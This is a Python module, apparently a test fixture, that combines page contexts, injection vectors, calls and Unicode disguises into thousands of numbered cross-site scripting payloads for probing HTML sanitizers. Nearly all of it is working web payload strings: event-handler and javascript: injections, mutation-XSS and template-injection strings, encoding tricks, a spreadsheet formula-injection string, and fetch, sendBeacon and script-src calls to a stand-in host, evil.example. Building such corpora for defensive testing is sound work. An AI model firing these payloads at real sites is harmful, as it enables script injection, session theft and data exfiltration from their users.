"""Strings that would run a script, or ask for something elsewhere, if a page took them for more than words: made from their structure.

A payload is a way out of a context, a vector with something to call in it, and a disguise. `payloads(300)` has every context, vector, call and
disguise; `payloads(10_000)` nearly every pair of them. Each calls with its own number, so that it can be told which one ran.
"""

import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from itertools import product

CONTEXTS = {
    "element": ("", ""),
    "title": ("</title>", ""),
    "textarea": ("</textarea>", ""),
    "comment": ("-->", ""),
    "style": ("</style>", ""),
    "noscript": ("</noscript>", ""),
    "cdata in svg": ("]]></desc></svg>", ""),
    "json island": ("</script>", ""),
    "template": ("</template>", ""),
    "double-quoted": ('">', ""),
    "single-quoted": ("'>", ""),
    "unquoted": ("x>", ""),
    "select": ("</option></select>", ""),
}
"""Where the words stand: what ends that."""
CONTROL = {
    "element": "<div>{}</div>",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "comment": "<!-- {} -->",
    "style": "<style>/* {} */</style>",
    "noscript": "<noscript>{}</noscript>",
    "cdata in svg": "<svg><desc><![CDATA[{}]]></desc></svg>",
    "json island": '<script type="application/json">{{"a": "{}"}}</script>',
    "template": "<template>{}</template>",
    "double-quoted": '<input value="{}">',
    "single-quoted": "<input value='{}'>",
    "unquoted": "<input value={}>",
    "select": "<select><option>{}</option></select>",
    "attribute": '<input value="{}">',
    "single attribute": "<input value='{}'>",
    "url": '<a href="{}">x</a>',
    "script": '<script>var a = "{}";</script>',
    "script, single": "<script>var a = '{}';</script>",
    "template literal": "<script>var a = `{}`;</script>",
    "line of script": "<script>// {}\n</script>",
    "style sheet": "<style>{}</style>",
    "nowhere": "<div>{}</div>",
}
"""Pages that take words for what they are not: there the payload runs."""
CALLS = (
    "alert({n})", "confirm({n})", "prompt({n})", "eval('alert({n})')", "Function('alert({n})')()", "fetch('//evil.example/{n}')",
    "navigator.sendBeacon('//evil.example/{n}')", "open('//evil.example/{n}')", "new Image().src='//evil.example/{n}'", "top['al'+'ert']({n})",
    "setTimeout('alert({n})')", "alert.call(null,{n})", "window.alert?.({n})", "self[atob('YWxlcnQ=')]({n})", "\\u0061lert({n})", "[{n}].map(alert)",
)  # fmt: skip
VECTORS = (
    "<script>{c}</script>", "<script >{c}</script >", "<script type=module>{c}</script>", "<script/x>{c}</script>", "<img src=x: onerror={q}>",
    "<svg onload={q}>", "<svg/onload={q}>", "<svg><script>{c}</script></svg>", "<svg><animate onbegin={q} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={q} attributeName=x dur=1s></svg>", "<svg><foreignObject><img src=x: onerror={q}></foreignObject></svg>",
    "<math><mtext><img src=x: onerror={q}></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x: onerror={q}></annotation-xml></math>",
    "<video src=x: onerror={q}></video>", "<audio src=x: onerror={q}></audio>", "<video><source src=x: onerror={q}></video>",
    "<input autofocus onfocus={q}>", "<details open ontoggle={q}>x</details>", "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe onload={q}></iframe>", "<object data=x: onerror={q}></object>", "<style onload={q}></style>",
    "<link rel=stylesheet href=data:text/css, onload={q}>", "<b onmouseover={q}>x</b>", "<b onclick={q}>x</b>", "<a href=\"javascript:{c}\">x</a>",
    "<form action=\"javascript:{c}\"><button>x</button></form>", "<button formaction=\"javascript:{c}\" form=f>x</button><form id=f></form>",
    "<svg><a xlink:href=\"javascript:{c}\"><text y=9>x</text></a></svg>", "<body onpageshow={q}>", "<p tabindex=0 onfocus={q}>x</p>",
    "<img src=//evil.example/{n}>", "<link rel=stylesheet href=//evil.example/{n}>", "<style>@import '//evil.example/{n}';</style>",
    "<b style=\"background:url(//evil.example/{n})\">x</b>", "<svg><image href=//evil.example/{n} /></svg>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<script src=//evil.example/{n}></script>", "<embed src=//evil.example/{n}>", "<object data=//evil.example/{n}></object>",
    "<input type=image src=//evil.example/{n}>", "<video poster=//evil.example/{n}></video>", "<base href=//evil.example/{n}/><img src=x{n}>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/{n}\">",
)  # fmt: skip
INSIDE = (
    ("attribute", '" autofocus onfocus={q} x="'), ("attribute", '" onmouseover={q} x="'), ("attribute", '"onclick={q} '),
    ("single attribute", "' autofocus onfocus={q} x='"), ("single attribute", "' onmouseover={q} x='"),
    ("url", "javascript:{c}"), ("url", "JaVaScRiPt:{c}"), ("url", "java\tscript:{c}"), ("url", "java\nscript:{c}"), ("url", "\x01javascript:{c}"),
    ("url", " javascript:{c}"), ("url", "javascript&colon;{c}"), ("url", "&#106;avascript:{c}"), ("url", "javascript://x%0a{c}"),
    ("script", '";{c};//'), ("script", '"-({c})-"'), ("script, single", "';{c};//"), ("script, single", "'-({c})-'"),
    ("script", "</script><script>{c}</script>"), ("template literal", "${{{c}}}"), ("template literal", "`;{c};//"),
    ("line of script", "\u2028{c}//"), ("line of script", "\u2029{c}//"), ("line of script", "\n{c}//"),
    ("style sheet", "@import '//evil.example/{n}';"), ("style sheet", "}}</style><script>{c}</script>"),
    ("style sheet", "b{{}}*{{background:url(//evil.example/{n})}}"),
)  # fmt: skip
"""What needs no element of its own: where, and what."""
IDLE = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={c}&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror={c}>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<svg></p><style><a id=\"</style><img src=x onerror={c}>\">", "<listing>&lt;img src=x onerror={c}&gt;</listing>",
    "<template><s><template><s><img src=x onerror={c}>@</s></template>", "{{{{constructor.constructor('{c}')()}}}}", "{{% raw %}}{{{{ {c} }}}}",
    "<%= {c} %>", "#{{{c}}}", "${{{c}}}", "[[{c}]]", "<div hx-on:click=\"{c}\" hx-get=//evil.example/{n} hx-trigger=load>x</div>",
    "<div data-hx-get=//evil.example/{n} data-hx-trigger=load>x</div>", "<div data-chart=course data-from=x>x</div>", "{{a|{c}}}",
    "&lt;img src=x onerror={c}&gt;", "&#60;img src=x onerror={c}&#62;", "%3Cimg%20src%3Dx%20onerror%3D{c}%3E", "%253Cscript%253E{c}%253C/script%253E",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "\\x3cimg src=x onerror={c}\\x3e", "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "＜script＞{c}＜/script＞", "‹img src=x onerror={c}›", "<\x00script>{c}</\x00script>", "<scr\u200bipt>{c}</scr\u200bipt>",
    "\u202e>tpircs/<{c}>tpircs<\u202c",
    "\ufeff=cmd|'{c}'!A0", "<b style=\"width:expression({c})\">x</b>", "vbscript:{c}", "data:text/html,<script>{c}</script>",
    "view-source:javascript:{c}",
    "\r\nContent-Type: text/html\r\n\r\n<script>{c}</script>", "\x1b]8;;javascript:{c}\x1b\\x\x1b]8;;\x1b\\", "__proto__[{c}]", "]]><x>{c}</x>",
    "<!--#exec {c}-->",
)  # fmt: skip
"""What runs nowhere by itself: mutations, templates, encodings; a second decoding or an engine would be needed, which is the defect looked for."""
DISGUISES = {
    "plain": lambda text: text,
    "after a mark of direction": lambda text: f"\u202e{text}",
    "after a blank of no width": lambda text: f"\u200b{text}",
    "after a line separator": lambda text: f"a\u2028{text}",
    "after words": lambda text: f"We lift on Monday. {text}",
    "after an open quote": lambda text: f"“{text}",
    "after a combining mark": lambda text: f"a\u0301{text}",
    "before words": lambda text: f"{text} is done",
}


@dataclass(frozen=True, slots=True)
class Payload:
    """One string, and where it would run."""

    number: int
    text: str
    context: str

    @property
    def runs(self) -> bool:
        """Whether a page that takes it for markup lets it run."""
        return self.context != "nowhere"

    @property
    def control(self) -> str:
        """A page that does."""
        return CONTROL[self.context].format(self.text)


def payloads(count: int, *, seed: int = 1) -> list[Payload]:
    """So many, all different; the first few hundred hold everything that there is."""
    chance, made, seen = random.Random(seed), list[Payload](), set[str]()
    for context, shape, call, disguise in _shapes(chance):
        number = 7_000_000 + len(made)
        called = call.format(n=number)
        text = _worn(shape.format(c=called, q=f'"{called}"', n=number), context, disguise)
        if len(made) == count:
            return made
        if text not in seen:
            seen.add(text)
            made.append(Payload(number, text, context))
    raise ValueError(f"there are {len(made):,} payloads, not {count:,}")


def _worn(text: str, context: str, disguise: str) -> str:
    """Where blanks before it would make it harmless, it wears nothing."""
    return text if context in ("url", "style sheet") else DISGUISES[disguise](text)


def _shapes(chance: random.Random) -> Iterator[tuple[str, str, str, str]]:
    """First each of everything, then pairs in any order."""
    ways, calls, disguises = [*CONTEXTS], _turning(CALLS), _turning(list(DISGUISES))
    for place, vector in enumerate(VECTORS):
        for step in range(4):
            context = ways[(place + 4 * step) % len(ways)]
            yield context, CONTEXTS[context][0] + vector, next(calls), next(disguises)
    for _ in range(2):
        for context, shape in INSIDE:
            yield context, shape, next(calls), next(disguises)
        for shape in IDLE:
            yield "nowhere", shape, next(calls), next(disguises)
    every = [
        *((context, CONTEXTS[context][0] + vector, call, disguise) for context, vector, call, disguise in product(ways, VECTORS, CALLS, DISGUISES)),
        *((context, shape, call, disguise) for (context, shape), call, disguise in product(INSIDE, CALLS, DISGUISES)),
        *(("nowhere", shape, call, disguise) for shape, call, disguise in product(IDLE, CALLS, DISGUISES)),
    ]
    chance.shuffle(every)
    yield from every


def _turning(choices: Sequence[str]) -> Iterator[str]:
    while True:
        yield from choices
